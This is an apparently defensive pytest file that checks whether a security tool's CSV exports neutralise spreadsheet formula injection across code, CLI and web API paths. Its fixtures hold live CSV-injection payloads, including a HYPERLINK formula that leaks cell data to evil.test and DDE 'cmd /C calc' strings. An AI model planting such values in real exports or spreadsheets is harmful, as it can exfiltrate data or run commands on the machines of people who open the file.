"""No export cell is a formula: names and sectors from an import or a manifest, details and
evidence from scanned servers, in every CSV export (organisation, portfolio, national;
from the code, the command line and the web API)."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import insert
from sqlalchemy.orm import Session
from typer.testing import CliRunner

from utsyn.cli.report import app as report_app
from utsyn.lab.orgs import records_from_manifest
from utsyn.lab.scenarios import load_scenario
from utsyn.report.csvfile import FORMULA_START, CsvLines, cell
from utsyn.report.exports import export
from utsyn.report.scope import Caller, Scope
from utsyn.settings import get_settings
from utsyn.store import models, users
from utsyn.store.db import make_engine, session_factory, upgrade
from utsyn.store.importer import import_organisations
from utsyn.store.orgs import organisation, upsert_organisations
from utsyn.web.app import create_app
from utsyn.web.security import hash_password
from utsyn.web.settings import WebSettings

T0 = datetime(2026, 6, 1, 8, 0, tzinfo=UTC)
HOSTILE_NAME = '=HYPERLINK("http://evil.test/?"&A1,"Klikk her")'
IMPORTED = {  # orgnr → (name, sector), as a register's CSV file gave them
    "974760673": (HOSTILE_NAME, "@SUM(1+1)*cmd|' /C calc'!A0"),
    "300000002": ("+47 22 33 44 55 kommune", "-2+3+cmd|' /C calc'!A0"),
}
MANIFEST_NAME = "=1+2"  # a lab manifest's organisation name
SCANNED = {"asset": "@evil.test:443", "detail": "-1", "evidence": "=cmd|' /C calc'!A0"}
PASSWORD = "korrekt hest batteri stift"


def _is_formula(value: str) -> bool:
    return value.startswith(FORMULA_START) and cell(value) != value


@pytest.fixture(scope="module")
def hostile_url(tmp_path_factory: pytest.TempPathFactory) -> str:
    folder = tmp_path_factory.mktemp("hostile")
    url = f"sqlite:///{folder / 'utsyn.db'}"
    upgrade(url)
    engine = make_engine(url)
    with session_factory(engine)() as session:
        manifest = load_scenario("demo")
        first = manifest.organisations[0].model_copy(update={"name": MANIFEST_NAME})
        manifest = manifest.model_copy(update={"organisations": (first,)})
        upsert_organisations(session, records_from_manifest(manifest), "lab:demo", T0)
        rows = "".join(f'{orgnr},"{name.replace(chr(34), 2 * chr(34))}",{sector}\n'
                       for orgnr, (name, sector) in IMPORTED.items())  # fmt: skip
        (folder / "orgs.csv").write_text("orgnr,name,sector\n" + rows, encoding="utf-8")
        report = import_organisations(session, folder / "orgs.csv", T0)
        assert report.committed, report.errors
        orgnrs = [first.orgnr, *IMPORTED]
        ids = [organisation(session, orgnr).id for orgnr in orgnrs]
        session.execute(
            insert(models.Finding),
            [{"org_id": i, "key": f"web.hsts.missing|{n}|", "rule": "web.hsts.missing",
              "first_seen": T0, "last_seen": T0, **SCANNED} for n, i in enumerate(ids)],
        )  # fmt: skip
        owner = users.add_user(
            session, "eier@prove.test", hash_password(PASSWORD), "national_admin", None, T0
        )
        portfolio = models.Portfolio(owner_id=owner.id, name="Fiendtlig", created=T0)
        session.add(portfolio)
        session.flush()
        session.add_all(models.PortfolioMember(portfolio_id=portfolio.id, org_id=i) for i in ids)
        session.commit()
    engine.dispose()
    return url


@pytest.fixture
def session(hostile_url: str) -> Iterator[Session]:
    engine = make_engine(hostile_url)
    with session_factory(engine)() as opened:
        yield opened
    engine.dispose()


def _check(text: str, orgs: int) -> None:
    """Every cell is safe, and the hostile texts are all there, quoted."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 1 + orgs
    formulas = [value for row in rows for value in row if _is_formula(value)]
    assert formulas == []
    cells = {value for row in rows[1:] for value in row}
    expected = {"'" + MANIFEST_NAME, "'" + HOSTILE_NAME, "'" + SCANNED["asset"]}
    expected |= {"'" + sector for _, sector in IMPORTED.values()}
    assert expected <= cells
    assert SCANNED["detail"] in cells  # a number stays a number
    assert "'+47 22 33 44 55 kommune" in cells


def test_every_scope_of_the_csv_export_neutralises_every_cell(
    session: Session, hostile_url: str
) -> None:
    national = Caller("national_analyst")
    _check("".join(export(session, Scope("national"), national, "csv", now=T0)), 3)
    for orgnr in IMPORTED:
        text = "".join(export(session, Scope("org", orgnr), national, "csv", now=T0))
        rows = list(csv.DictReader(io.StringIO(text, newline="")))
        assert [r["organisation"] for r in rows] == ["'" + IMPORTED[orgnr][0]]
        assert not any(_is_formula(v) for r in rows for v in r.values())
    pid = session.query(models.Portfolio.id).scalar()
    _check("".join(export(session, Scope("portfolio", portfolio_id=pid), national, "csv")), 3)


def test_the_cli_export_writes_no_formula(
    hostile_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("UTSYN_DATABASE_URL", hostile_url)
    get_settings.cache_clear()
    try:
        for scope in ("national", "portfolio"):
            out = tmp_path / f"{scope}.csv"
            args = ["export", "--scope", scope, "--portfolio", "Fiendtlig", "--format", "csv",
                    "-o", str(out)]  # fmt: skip
            result = CliRunner().invoke(report_app, args)
            assert result.exit_code == 0, result.output
            _check(out.read_text(encoding="utf-8"), 3)
    finally:
        get_settings.cache_clear()


def test_the_web_api_export_writes_no_formula(hostile_url: str, tmp_path: Path) -> None:
    settings = WebSettings(data_dir=tmp_path / "data", cache_dir=tmp_path / "cache",
                           secret_key="csv-injection-" * 4)  # fmt: skip
    engine = make_engine(hostile_url)
    try:
        with TestClient(create_app(settings, engine), base_url="https://testserver") as client:
            form = client.get("/login").text
            token = form.split('name="csrf_token" value="', 1)[1].split('"', 1)[0]
            login = {"email": "eier@prove.test", "password": PASSWORD, "csrf_token": token}
            assert client.post("/login", data=login, follow_redirects=False).status_code == 303
            answer = client.get("/api/v1/exports", params={"scope": "national", "format": "csv"})
            assert answer.status_code == 200, answer.text
            assert answer.headers["content-type"].startswith("text/csv")
            _check(answer.text, 3)
    finally:
        engine.dispose()


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-3", "-3"),
        ("+47", "+47"),
        ("-0.5", "-0.5"),
        ("1e-3", "1e-3"),
        ("-1e", "'-1e"),
        ("a=1", "a=1"),
        ("", ""),
    ],
)
def test_a_cell_is_quoted_unless_it_is_text_or_a_plain_number(value: str, written: str) -> None:
    assert cell(value) == written
    line = CsvLines().line([value])
    assert next(csv.reader(io.StringIO(line, newline=""))) == [written]
